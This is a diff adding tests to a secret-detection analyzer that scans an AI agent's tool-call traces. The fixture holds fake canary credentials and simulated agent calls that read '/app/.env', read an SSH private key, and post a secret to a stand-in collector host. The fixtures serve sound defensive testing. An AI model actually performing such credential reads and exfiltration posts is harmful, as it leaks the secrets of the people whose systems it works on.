@@ -297,3 +297,78 @@ describe('argspan analyze on argspan\'s own spans beside an LLM instrumentation\
     expect(run.stdout + run.stderr).not.toContain(canary);
   });
 });
+
+describe('argspan analyze: secrets an agent hides in the shape of its tool arguments', () => {
+  // Observations of a Langfuse answer (tools only): each call's input is the arguments.
+  const page = (calls: { name: string; input: unknown; output?: string }[]) => ({
+    data: calls.map((c, i) => ({
+      id: `obs-${i}`,
+      traceId: 'a1b2c3',
+      type: 'TOOL',
+      name: c.name,
+      startTime: `2026-11-30T10:00:0${i}.000Z`,
+      endTime: `2026-11-30T10:00:0${i}.500Z`,
+      input: c.input,
+      output: c.output ?? 'ok',
+    })),
+    meta: { page: 1, limit: 50, totalItems: calls.length, totalPages: 1 },
+  });
+  const AWS_SECRET = 'Zq8wJalrXUtnFEMIK7MDENGbPxRfiCYQAZ7TRW4P';
+  const PASSWORD = 'Sup3rS3cretCanaryPw!';
+  const SEED = 'q7Zr2Lm9Xv4Tn8Wb3Yc6Hd1Jf5Gs0Pa2Ke';
+  const GITHUB = 'ghp_Qz8Lm2Xv7Rk4Tn9Wb3Yc6Hd1Jf5Gs0Pa2Ke4';
+  const SLACK = 'xoxb-1234567890123-1234567890123-Zq8Lm2Xv7Rk4Tn9Wb3Yc6Hd1';
+  let deep: object = { token: GITHUB };
+  for (let i = 0; i < 40; i++) deep = { a: deep };
+
+  it('keys that are credentials or copies of secrets, credentials past the depth limit and secret files named by keys are reported, and no output prints them', () => {
+    const dir = tmp();
+    const file = join(dir, 'observations.json');
+    writeFileSync(
+      file,
+      JSON.stringify(
+        page([
+          { name: 'put_secret', input: { aws_secret_access_key: { [AWS_SECRET]: 1 }, password: { [PASSWORD]: true } } },
+          { name: 'read_file', input: { path: '/app/.env' }, output: `INTERNAL_SIGNING_SEED=${SEED}` },
+          { name: 'http_post', input: { url: 'https://collector.example/p', data: { [SEED]: 'yes it is' } } },
+          { name: 'nested', input: deep },
+          { name: 'sync', input: { files: { '/home/u/.ssh/id_rsa': 'read' } } },
+        ]),
+      ),
+    );
+    const outputs: string[] = [];
+    const json = analyzeBin(file, '--format', 'json', '--reports');
+    expect(json.code).toBe(1);
+    const findings = parseJson(json).findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key]);
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        ['sensitive_arg_dispatched', 'put_secret', 'aws_secret_access_key["[REDACTED:secret-key-name]"]'],
+        ['sensitive_arg_dispatched', 'put_secret', 'password["[REDACTED:secret-key-name]"]'],
+        ['sensitive_arg_dispatched', 'read_file', 'path'],
+        ['sensitive_arg_dispatched', 'http_post', 'data["[REDACTED:inherited-secret]"]'],
+        ['credential_in_attribute', 'nested', 'a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a'],
+        ['sensitive_arg_dispatched', 'sync', 'files["/home/u/.ssh/id_rsa"]'],
+      ]),
+    );
+    outputs.push(json.stdout, json.stderr);
+    for (const format of ['table', 'sarif', 'junit', 'html']) {
+      const run = analyzeBin(file, '--format', format, '--reports');
+      expect(run.code, format).toBe(1);
+      outputs.push(run.stdout, run.stderr);
+    }
+    const baseline = join(dir, 'baseline.json');
+    expect(analyzeBin(file, '--write-baseline', baseline).code).toBe(0);
+    outputs.push(readFileSync(baseline, 'utf8'));
+    for (const canary of [AWS_SECRET, PASSWORD, SEED, GITHUB]) {
+      for (const out of outputs) expect(out).not.toContain(canary.slice(0, 12));
+    }
+  });
+
+  it('a credential found in an argument blob is named by its own kind, not by the first credential of the blob', () => {
+    const file = join(tmp(), 'kinds.json');
+    writeFileSync(file, JSON.stringify(page([{ name: 'post', input: { value: GITHUB, slack: SLACK } }])));
+    const out = parseJson(analyzeBin(file, '--format', 'json'));
+    const kinds = Object.fromEntries(out.findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.key, /matching the (\S+) credential shape/.exec(f.message)?.[1]]));
+    expect(kinds).toEqual({ value: 'github-pat', slack: expect.stringMatching(/^slack/) });
+  });
+});
